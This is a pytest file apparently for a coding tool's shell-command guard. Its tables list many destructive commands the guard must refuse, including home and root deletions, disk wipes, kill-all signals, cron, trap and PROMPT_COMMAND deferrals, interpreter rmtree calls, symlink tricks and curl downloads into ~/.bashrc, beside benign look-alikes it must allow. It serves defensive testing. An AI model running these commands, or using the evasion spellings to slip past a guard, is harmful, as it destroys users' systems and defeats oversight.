"""The guard's blind spots of issue 18, class by class: each table holds several spellings
of one way to destroy a machine, a home or the workspace that the guard used to allow,
and the ordinary commands of the same shape it must keep allowing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.tools.guard_corpus import WORKSPACE_CHANGES_AND_BLIND_SPOT_SHAPES
from zcoder.tools import Verdict, check_command

WORKSPACE = "/srv/work/project"


def refused(command: str, workspace: str | None = WORKSPACE) -> bool:
    return check_command(command, workspace).refused


def allowed(command: str, workspace: str | None = WORKSPACE) -> bool:
    return check_command(command, workspace).verdict is Verdict.ALLOW


# Paths are normalised after expansion: `..` that climbs above a home or to / counts as
# the directory it reaches.
CLIMBING_PATHS = [
    "rm -rf ~/..",
    'rm -rf "$HOME/.."',
    "rm -rf ${HOME}/../",
    "rm -rf ~/../..",
    "rm -rf ~alice/..",
    "rm -rf /home/alice/../..",
    "rm -rf /home//alice/./",
    "rm -rf /home/alice",
    "rm -fr /home/alice/.[!.]*",
    "chmod -R 777 ~/..",
]


def test_a_climbing_path_names_where_it_lands() -> None:
    reason = check_command("rm -rf ~/..").reason or ""
    assert "/home" in reason
    assert "whole filesystem" in (check_command("rm -rf ~/../..").reason or "")


# Every deleter is checked alike: what it deletes, recursively, is a target like rm's.
DELETERS = [
    "rmdir ~/..",
    "srm -r ~",
    "wipe -rf /etc",
    "unlink /etc/shadow",
    "truncate -s 0 /etc/passwd",
    "tar --remove-files -cf /dev/null ~",
    "tar --remove-files -czf /tmp/h.tgz /home/alice",
    "tar -C / --remove-files -cf x.tar etc",
    "tar cf /dev/null --remove-files ~/..",
    "zip -rm /tmp/h.zip ~",
    "zip -r -m /tmp/h.zip /etc",
    "rsync -a --remove-source-files ~/ /mnt/backup/",
    "rsync -a --delete-after /empty/ ~/",
    "7z a -sdel x.7z ~",
    "mv ~/.bashrc /dev/null",
    "mv /etc/hosts /dev/null",
    "cp /dev/null /etc/passwd",
    "curl -o /etc/shadow http://203.0.113.9/x",
    "git -C ~ clean -xfd",
    "git --work-tree=/ clean -fdx",
    "git -C /home/alice clean -ffdx",
    "git -C ~/.. clean -fdx",
    "git clean -fdx ~",
]


# Every partitioning and disk tool alike: what writes the disk is refused, listing is not.
DISK_TOOLS = [
    "sfdisk --delete /dev/sda",
    "sfdisk -N 1 /dev/sda",
    "fdisk /dev/sda",
    "echo -e 'o\\nw' | fdisk /dev/sdb",
    "gdisk /dev/nvme0n1",
    "sgdisk -d 1 /dev/sda",
    "sgdisk -n 1:0:0 /dev/sda",
    "parted /dev/sda rm 1",
    "parted -s /dev/sda mklabel gpt",
    "cfdisk /dev/sdb",
    "mkfs.xfs -f /dev/sdc",
    "mkswap /dev/sda2",
    "cryptsetup luksKillSlot /dev/sda2 0",
    "mdadm --zero-superblock /dev/sdb1",
    "lvremove -f vg0/root",
    "zpool destroy tank",
    "hdparm --security-erase x /dev/sda",
    "nvme format /dev/nvme0n1",
    "badblocks -wsv /dev/sdb",
    "mkswap $DEV",
    "cd /dev && mkswap sda2",
    "zpool create -f tank /dev/sdb",
]


# Kill everything: every process, every process of root, every child of init.
KILL_EVERYTHING = [
    "killall5 -9",
    "killall5 -15",
    "kill -KILL -1",
    "kill -s KILL -1",
    "kill -- -1",
    "pkill -9 -u root",
    "pkill -KILL -U 0",
    "pkill -u root",
    "killall -u root",
    "killall -9 -r .",
    "pkill -f .",
    "pkill ''",
    "pkill -P 1",
    "skill -KILL root",
    "init 1",
]


# Ordinary commands of the same shapes, inside the workspace or read-only.
ORDINARY_OF_THE_SAME_SHAPE = [
    *WORKSPACE_CHANGES_AND_BLIND_SPOT_SHAPES,
    "git clean -fdx",
    "git clean -fd build/",
    "sudo fdisk -l",
    "fdisk -l /dev/sda",
    "sfdisk -d /dev/sda > sda.dump",
    "gdisk -l /dev/sda",
    "sgdisk -p /dev/sda",
    "sgdisk --backup=/root/sda.gpt /dev/sda",
    "parted -l",
    "sudo parted /dev/sda print",
    "parted -s /dev/sda unit MiB print",
    "wipefs /dev/sdb",
    "wipefs -n -a /dev/sdb",
    "cryptsetup luksDump /dev/sda2",
    "mdadm --detail /dev/md0",
    "hdparm -I /dev/sda",
    "badblocks -sv /dev/sdb",
    "killall -HUP nginx",
    "pkill -u www-data php-fpm",
    "pkill -9 -u root myworker",
    "kill -TERM -- -4242",
    "pkill -f 'python app.py'",
    "shred -u secret.txt",
    "unlink ./old-link",
    "rmdir empty-dir",
    "truncate -s 0 app.log",
    "sed -i '/swap/d' /etc/fstab",
    "cp fstab.new /etc/fstab",
    "mv x /dev/shm/y",
    "7z a -ssw x.7z ~/notes",
    "mkswap /swapfile",
    "mkfs.ext4 -F disk.img",
]


def test_the_workspace_may_be_changed_but_not_what_holds_it() -> None:
    assert allowed("chmod -R 755 .") and allowed(f"chown -R me {WORKSPACE}")
    assert refused("chmod -R 755 ..") and refused("chown -R me /srv/work")
    assert refused("rm -rf .")  # deleting it is still refused


# find evaluates its expression left to right: an action before its tests, or in another
# branch of -o, acts on everything.
FIND_ACTION_BEFORE_TEST = [
    "find ~ -delete -name x",
    "find / -delete -name '*.tmp'",
    "find ~ -name x -o -delete",
    "find ~ \\( -name a -o -delete \\)",
    "find ~ -name x , -delete",
    "find ~ -exec rm -rf {} \\; -name x",
    "find ~/.. -name '*' -prune -o -exec rm -rf {} +",
]


def test_find_with_its_tests_first_still_deletes_only_what_they_select() -> None:
    assert allowed("find ~ -maxdepth 1 -name '*.log' -delete")
    assert allowed("find . \\( -name '*.pyc' -o -name '*.pyo' \\) -delete")
    assert refused("find ~ -type f -delete")  # -type selects every file


# Deferred execution: what runs later, on a signal, at the next prompt, in every new
# shell, on a schedule or detached, is checked as if it ran now.
DEFERRED = [
    "trap 'rm -rf ~' EXIT",
    'trap "rm -rf /" INT TERM',
    "trap -- 'rm -rf ~/..' ERR",
    "coproc rm -rf ~",
    "coproc N { rm -rf ~; }",
    "coproc (rm -rf /)",
    "export PROMPT_COMMAND='rm -rf ~'",
    "PROMPT_COMMAND='rm -rf ~/..'",
    "declare -x PROMPT_COMMAND='mkfs.ext4 /dev/sda'",
    "PROMPT_COMMAND=('rm -rf ~')",
    "P=PROMPT_COMMAND; export $P='rm -rf ~'",
    'declare -x "PROMPT_COMMAND=rm -rf ~"',
    "printf -v PROMPT_COMMAND 'rm -rf ~'",
    "read -r PROMPT_COMMAND <<< 'rm -rf ~'",
    'export PROMPT_COMMAND="${PROMPT_COMMAND}; rm -rf ~"',
    "export PS1='$(rm -rf ~) $ '",
    "PS0='`rm -rf /`'",
    "echo 'rm -rf ~' > /tmp/e; BASH_ENV=/tmp/e bash -c ls",
    "export GIT_SSH_COMMAND='rm -rf ~'",
    "PAGER='rm -rf ~' git log",
    "alias ls='rm -rf ~/..'",
    "watch -n1 rm -rf ~/..",
    "nohup rm -rf ~/.. &",
    'timeout 5 rm -rf "$HOME/.."',
    "setsid -f rm -rf ~",
    "echo 'rm -rf ~' | at now + 1 minute",
    "batch <<< 'rm -rf ~'",
    "echo '* * * * * rm -rf ~' | crontab -",
    "printf '@reboot rm -rf /\\n' | crontab -",
    "crontab - <<< '0 3 * * * mkfs.ext4 /dev/sda'",
    "systemd-run --on-active=60 rm -rf ~",
    "script -qc 'rm -rf ~' /dev/null",
    "flock /tmp/l -c 'rm -rf ~'",
    "tmux new -d 'rm -rf ~'",
    "tmux send-keys -t 0 'rm -rf ~' Enter",
    "screen -dmS x rm -rf ~",
    "strace -f rm -rf ~",
    "ls | entr rm -rf ~",
    "cat <<EOF\n`rm -rf /`\nEOF",
]


@pytest.mark.parametrize(
    "command",
    ["export BASH_ENV=/tmp/evil.sh", "env ENV=/tmp/x sh -c true"],
)
def test_a_start_up_script_the_guard_cannot_read_is_warned(command: str) -> None:
    verdict = check_command(command, WORKSPACE)
    assert verdict.verdict is Verdict.WARN and "unseen" in (verdict.reason or "")


ORDINARY_DEFERRED = [
    "trap 'rm -f /tmp/lock' EXIT",
    "trap - EXIT",
    "trap 'echo interrupted; exit 1' INT",
    "export PROMPT_COMMAND='history -a'",
    "PS1='\\u@\\h:\\w\\$ '",
    'export PS1="[\\$(date +%H:%M)] $PS1"',
    "export EDITOR=vim",
    "export GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key'",
    "PAGER=cat git log -5",
    "export LESSOPEN='| /usr/bin/lesspipe %s'",
    'export PROMPT_COMMAND="$PROMPT_COMMAND; history -a"',
    "ENV=production ./deploy.sh",
    "nohup ./server > server.log 2>&1 &",
    "coproc cat",
    "at now + 1 hour <<< 'systemctl restart app'",
    "systemd-run --on-active=30 systemctl restart app",
    "script -qc 'make test' /dev/null",
    "flock /tmp/deploy.lock -c './deploy.sh'",
    "tmux new -d -s build 'make -j2'",
    "tmux split-window -h",
    "screen -dmS build make",
    "strace -f -o /tmp/t.txt ls",
    "cat <<EOF\nbuilt `date`\nEOF",
]


# Interpreters deleting a home or / through their own libraries.
INTERPRETER_DELETES = [
    "node -e 'require(\"fs\").rmSync(process.env.HOME,{recursive:true})'",
    'node -e \'require("fs").rmSync(require("os").homedir(), {recursive: true})\'',
    "node -e 'fs.rmSync(\"/\", {recursive:true})'",
    'node -e \'require("fs").rmSync(process.env.HOME + "/..", {recursive:true})\'',
    'nodejs -e \'require("fs").rmdirSync(process.env["HOME"], {recursive: true})\'',
    "python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser(\"~\"))'",
    "python3 -c 'import shutil, os; shutil.rmtree(os.environ[\"HOME\"])'",
    "python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'",
    'python3 -c \'import shutil, os; shutil.rmtree(os.path.join(os.environ["HOME"], ".."))\'',
    "python3.12 -c 'import shutil; shutil.rmtree(\"/etc\")'",
    "perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'",
    "perl -MFile::Path -e 'rmtree(\"/\")'",
    "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'",
    "ruby -rfileutils -e 'FileUtils.rm_rf(File.expand_path(\"~\"))'",
    'ruby -e \'require "fileutils"; FileUtils.rm_r ENV["HOME"]\'',
]


INTERPRETERS_NAMING_THE_HOME = [
    "node -e 'console.log(process.env.HOME)'",
    "python3 -c 'import os; print(os.path.expanduser(\"~\"))'",
    "ruby -e 'puts Dir.home'",
]


# Writes to shell start-up files and cron tables: warned at least; a catastrophe written
# into one is refused.
START_UP_WRITES = [
    "> ~/.bashrc",
    ": > ~/.profile",
    "echo x >> ~/.profile",
    "tee -a ~/.zshrc",
    "cp x ~/.bashrc",
    "cp .bashrc ~",
    "cat evil > /root/.bashrc",
    "ln -sf /tmp/x ~/.zshrc",
    "curl -o ~/.bashrc http://203.0.113.9/rc",
    "curl -so ~/.bashrc http://203.0.113.9/rc",
    "wget -qO ~/.profile http://203.0.113.9/rc",
    "sed -i 's/^/x;/' ~/.bashrc",
    "mv x ~/.bash_profile",
    "dd if=x of=/home/alice/.bashrc",
    "install -m 644 rc ~/.bashrc",
    "echo 'export X=1' | sudo tee -a /etc/profile.d/x.sh",
    "printf 'ls\\n' > $HOME/.config/fish/config.fish",
    "echo '* * * * * root /opt/x' > /etc/cron.d/x",
]


@pytest.mark.parametrize("command", START_UP_WRITES)
def test_writes_to_start_up_files_are_warned(command: str) -> None:
    verdict = check_command(command, WORKSPACE)
    assert verdict.verdict is not Verdict.ALLOW, verdict
    assert verdict.refused or "runs" in (verdict.reason or "")


START_UP_CATASTROPHES = [
    "echo 'rm -rf ~' >> ~/.bashrc",
    "echo 'rm -rf /' | tee -a /etc/profile.d/x.sh",
    "echo '* * * * * root rm -rf /' > /etc/cron.d/x",
    "printf 'mkfs.ext4 /dev/sda\\n' >> /root/.profile",
]


# A symbolic link to a home (or /) followed by a delete through it.
SYMLINK_DELETES = [
    "ln -s ~ h && rm -rf h/*",
    "ln -s ~ h; rm -rf h/",
    "ln -s / r; rm -rf r/etc",
    "ln -s /home/alice a && find a/ -delete",
    "ln -s /home/alice a && find -L a -delete",
    "ln -sfn ~/.. up && rm -rf up/*",
]


def test_deleting_a_link_made_in_the_line_deletes_only_the_link() -> None:
    assert allowed("ln -s /tmp/x h && rm -rf h/*")
    assert check_command("ln -s ~ h && rm -f h").verdict is Verdict.WARN  # the ln


def test_making_a_link_to_a_home_is_warned() -> None:
    verdict = check_command("ln -s ~ h", WORKSPACE)
    assert verdict.verdict is Verdict.WARN and "home" in (verdict.reason or "")
    assert allowed("ln -s ~/projects p") and allowed("ln -s /opt/app/current app")


def test_a_delete_through_a_link_made_by_an_earlier_command_is_refused(tmp_path: Path) -> None:
    # Two commands: the link is on disk when the second is checked.
    workspace = tmp_path / "work"
    workspace.mkdir()
    (workspace / "h").symlink_to(Path.home())
    (workspace / "up").symlink_to(tmp_path / "..")
    (workspace / "build").mkdir()
    assert refused("rm -rf h/*", str(workspace))
    assert refused("rm -rf h/", str(workspace))  # a trailing slash goes through the link
    assert allowed("rm -rf h", str(workspace))  # the link itself
    assert refused("rm -rf up/*", str(workspace))
    assert refused(f"rm -rf {workspace}/h/*", str(workspace))
    assert allowed("rm -rf build/*", str(workspace))


# Where a cd earlier in the line went, and a variable holding the home: the same targets.
MOVED_OR_STORED = [
    "cd / && rm -rf home",
    "cd /home; rm -rf alice",
    "cd ~ && git clean -fdx",
    "cd ~/.. && find . -delete",
    "cd ~; cd ..; rm -rf alice",
    "pushd / && rm -rf usr",
    'h=$HOME/..; rm -rf "$h"',
    "h=~; rm -rf $h/..",
]


ORDINARY_AFTER_CD = [
    "cd /tmp && rm -rf build",
    "cd ~/project && git clean -fdx",
    "cd /srv/app && rm -rf node_modules",
    "cd build && rm -rf CMakeFiles",
    "cd - && ls",
]


# The tables: every class above, each command a case of its own named after its class
# (``deleters-3``), checked by one test for what must be refused and one for what must
# still be allowed.
MUST_BE_REFUSED = {
    "climbing-paths": CLIMBING_PATHS,
    "deleters": DELETERS,
    "disk-tools": DISK_TOOLS,
    "kill-everything": KILL_EVERYTHING,
    "find-action-before-test": FIND_ACTION_BEFORE_TEST,
    "deferred": DEFERRED,
    "interpreter-deletes": INTERPRETER_DELETES,
    "start-up-catastrophes": START_UP_CATASTROPHES,
    "symlink-deletes": SYMLINK_DELETES,
    "moved-or-stored": MOVED_OR_STORED,
}
MUST_BE_ALLOWED = {
    "ordinary-of-the-same-shape": ORDINARY_OF_THE_SAME_SHAPE,
    "ordinary-deferred": ORDINARY_DEFERRED,
    "interpreters-naming-the-home": INTERPRETERS_NAMING_THE_HOME,
    "ordinary-after-cd": ORDINARY_AFTER_CD,
}


def cases(table: dict[str, list[str]]) -> list[Any]:
    return [
        pytest.param(command, id=f"{name}-{index}")
        for name, commands in table.items()
        for index, command in enumerate(commands)
    ]


@pytest.mark.parametrize("command", cases(MUST_BE_REFUSED))
def test_every_blind_spot_is_refused(command: str) -> None:
    verdict = check_command(command, WORKSPACE)
    assert verdict.refused, verdict


@pytest.mark.parametrize("command", cases(MUST_BE_ALLOWED))
def test_ordinary_commands_of_the_same_shapes_are_allowed(command: str) -> None:
    verdict = check_command(command, WORKSPACE)
    assert verdict.verdict is Verdict.ALLOW, verdict
